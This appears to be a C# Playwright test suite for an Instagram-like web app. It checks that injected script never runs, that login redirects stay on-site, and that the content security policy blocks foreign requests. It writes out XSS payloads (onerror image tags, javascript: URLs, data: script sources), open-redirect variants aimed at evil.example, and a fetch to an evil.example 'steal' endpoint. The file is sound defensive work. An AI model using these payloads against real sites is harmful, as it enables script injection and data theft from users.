using System.Text.Json;
using Instagram.Tests.Browser;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Instagram.Tests.Security;

/// <summary>
/// Script in every text, every page in a real browser: nothing runs, and nothing even becomes markup.
/// </summary>
[Collection(BrowserGroup.Name)]
public sealed class ScriptInjectionTests(BrowserFixture browser)
{
    private const string Traces =
        """
        () => [
          ...(window.__ran === undefined ? [] : ['a script ran']),
          ...[...document.querySelectorAll(
            'img[src="x"], img[onerror], svg[onload], iframe, body script, a[href^="javascript:" i]')]
            .map((element) => element.outerHTML.slice(0, 100)),
        ]
        """;

    [BrowserFact]
    public async Task No_text_of_anyone_runs_or_becomes_markup_on_any_page()
    {
        await using var product = await Product.Start(Moderating.Setting);
        var scene = await InjectionScene.Set(product);
        await using var device = await browser.Someone();
        await SignIn(device.Page.Context, product, scene.Victim);
        await using var victim = new Person(await device.Page.Context.NewPageAsync(), product.Address);
        var found = new List<string>();
        victim.Page.Dialog += (_, dialog) => found.Add($"a dialog: {dialog.Message}");

        foreach (var path in Pages(scene))
        {
            await victim.Page.GotoAsync(new Uri(product.Address, path).ToString());
            await Expect(victim.Page.Locator("main")).ToBeVisibleAsync();
            await Expect(victim.Page.Locator(".loading")).ToHaveCountAsync(0);
            await Look(path);
        }
        await victim.Page.GotoAsync(new Uri(product.Address, $"/stories/{scene.Victim.Username}").ToString());
        await victim.Page.GetByRole(AriaRole.Button, new() { Name = "Replies: 1" }).ClickAsync();
        await Expect(victim.Page.GetByRole(AriaRole.Dialog, new() { Name = "Replies" })).ToContainTextAsync("onerror");
        await Look("replies");

        Assert.Empty(found);
        Assert.Empty(victim.Complaints);

        async Task Look(string where) => found.AddRange(
            (await victim.Page.EvaluateAsync<string[]>(Traces)).Select(trace => $"{where}: {trace}"));
    }

    [BrowserFact]
    public async Task A_link_to_the_sign_in_leads_to_no_other_site_and_runs_nothing()
    {
        await using var product = await Product.Start();
        var bob = await product.SignUp("bob");
        string[] ways =
        [
            "javascript:window.__ran=1", "//evil.example/", "/\\evil.example", "/\t/evil.example", "/.//evil.example",
        ];
        foreach (var next in ways)
        {
            await using var device = await browser.Someone();
            await using var person = new Person(await device.Page.Context.NewPageAsync(), product.Address);
            await person.Page.GotoAsync(
                new Uri(product.Address, $"/login?next={Uri.EscapeDataString(next)}").ToString());
            await person.Page.GetByLabel("Username or e-mail").FillAsync(bob.Username);
            await person.Page.GetByLabel("Password").FillAsync(Member.Password);
            await person.Button("Log in").ClickAsync();
            await Expect(person.Page.GetByRole(AriaRole.Navigation, new() { Name = "Main" })).ToBeVisibleAsync();
            Assert.True(product.Address.IsBaseOf(new Uri(person.Page.Url)), person.Page.Url);
            Assert.Empty(await person.Page.EvaluateAsync<string[]>(Traces));
        }
    }

    [BrowserFact]
    public async Task Markup_that_got_into_the_page_all_the_same_runs_nothing_and_sends_nothing_away()
    {
        await using var product = await Product.Start();
        await using var device = await browser.Someone();
        var page = await device.Page.Context.NewPageAsync();
        var sent = new List<string>();
        page.Request += (_, request) => sent.Add(request.Url);
        await page.GotoAsync(new Uri(product.Address, "/").ToString());
        await Expect(page.Locator("main")).ToBeVisibleAsync();
        var refused = await page.EvaluateAsync<string[]>(
            """
            async () => {
              const refused = [];
              const attempt = async (name, act) => { try { await act(); } catch { refused.push(name); } };
              const add = (name, values) => {
                const element = Object.assign(document.createElement(name), values);
                document.body.append(element);
                return element;
              };
              await attempt('innerHTML', () => { add('div').innerHTML = '<img src=x onerror="window.__ran=1">'; });
              await attempt('script text', () => { add('script', { textContent: 'window.__ran=1' }); });
              await attempt('script source', () => { add('script', { src: 'data:text/javascript,window.__ran=1' }); });
              await attempt('foreign fetch', () => fetch('https://evil.example/steal'));
              await attempt('handler', () => {
                const button = add('button');
                button.setAttribute('onclick', 'window.__ran=1');
                button.click();
              });
              return refused;
            }
            """);
        Assert.Superset(new HashSet<string> { "innerHTML", "script text", "script source", "foreign fetch" },
            refused.ToHashSet());
        Assert.True(await page.EvaluateAsync<bool>("() => window.__ran === undefined"));
        Assert.DoesNotContain(sent, url => url.Contains("evil.example", StringComparison.Ordinal));
    }

    [BrowserFact]
    public async Task The_page_of_the_contract_works_under_its_policy()
    {
        await using var product = await Product.Start();
        await using var device = await browser.Someone();
        await using var person = new Person(await device.Page.Context.NewPageAsync(), product.Address);
        await person.Page.GotoAsync(new Uri(product.Address, "/docs").ToString());
        await Expect(person.Page.Locator(".opblock").First).ToBeVisibleAsync();
        Assert.Empty(person.Complaints);
    }

    private static string[] Pages(InjectionScene scene)
    {
        var (shortly, fully) = (Uri.EscapeDataString(InjectionScene.Short), Uri.EscapeDataString(InjectionScene.Long));
        return
        [
            "/", "/explore", "/notifications", "/saved", "/settings", "/settings/account", "/settings/blocked",
            "/settings/decisions", "/requests", "/moderation", "/new", "/search",
            $"/u/{scene.Mallory.Username}", $"/u/{scene.Victim.Username}", $"/p/{scene.Post.Id}",
            $"/p/{scene.VictimsPost.Id}", $"/places/{scene.Post.Location!.Id}", $"/t/x{scene.Mallory.Username}",
            $"/stories/{scene.Mallory.Username}",
            $"/search?type=users&q={scene.Mallory.Username}", $"/search?type=posts&q=x{scene.Mallory.Username}",
            $"/search?type=places&q={shortly}", $"/u/{shortly}", $"/t/{shortly}", $"/no/{fully}?x={fully}#{fully}",
        ];
    }

    private static async Task SignIn(IBrowserContext context, Product product, Member member)
    {
        var session = JsonSerializer.Serialize(new
        {
            user = await member.Me(), accessToken = member.AccessToken, refreshToken = member.RefreshToken,
            lifetime = 3_600_000, expiresAt = TimeProvider.System.GetUtcNow().AddHours(1).ToUnixTimeMilliseconds(),
        }, Contract.Json);
        await context.AddInitScriptAsync(
            $"localStorage.setItem('orleans.session', {JsonSerializer.Serialize(session)})");
        await context.AddCookiesAsync(
            [new Cookie { Name = "session", Value = member.AccessToken, Url = product.Address.ToString() }]);
    }
}
